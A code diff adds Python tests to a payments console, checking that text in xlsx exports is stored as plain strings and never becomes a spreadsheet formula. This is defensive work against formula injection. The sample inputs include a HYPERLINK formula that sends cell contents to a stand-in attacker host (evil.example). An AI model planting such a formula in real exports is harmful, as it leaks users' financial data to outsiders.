@@ -167,3 +167,43 @@ async def test_a_paged_tables_xlsx_holds_every_amount_of_its_page(console) -> No
     [rows] = sheets((await _get(client, "/console/books/accounts?format=xlsx")).content).values()
     assert rows[0][:5] == ["Code", "Name", "Type", "Balance", "Balance currency"]
     assert {r[0]: (r[3], r[4]) for r in rows[1:]} == page_rows
+
+
+#: text a merchant or a bank controls (a description, a name, a statement's reference)
+#: that a spreadsheet would run as a formula if the cell were one
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-1+1",
+            "@SUM(1)"]
+
+
+def _cells_of(content: bytes) -> list[ElementTree.Element]:
+    archive = zipfile.ZipFile(io.BytesIO(content))
+    root = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
+    return list(root.iter(f"{{{NS['s']}}}c"))
+
+
+def _text_cells_hold(content: bytes, texts: list[str]) -> None:
+    cells = _cells_of(content)
+    assert not [c for c in cells if c.find("s:f", NS) is not None], "a cell is a formula"
+    held = ["".join(c.itertext()) for c in cells if c.get("t") == "inlineStr"]
+    for text in texts:
+        assert text in held
+
+
+def test_an_exports_text_is_never_a_formula() -> None:
+    from paycore.console import exports
+
+    response = exports.respond("x", "xlsx", [(
+        "Bank vs book", ["section", "label", "amount", "currency"],
+        [["unmatched line", text, Decimal("1.00"), "CNY"] for text in FORMULAS])])
+    _text_cells_hold(response.body, FORMULAS)
+
+
+def test_a_paged_tables_text_is_never_a_formula() -> None:
+    import zoneinfo
+
+    from paycore.console import web
+
+    table = web.Table("intents", "Intents", [web.Column("description", "Description")],
+                      rows=[{"description": text} for text in FORMULAS])
+    response = web.export(table, "xlsx", zoneinfo.ZoneInfo("UTC"))
+    _text_cells_hold(response.body, FORMULAS)
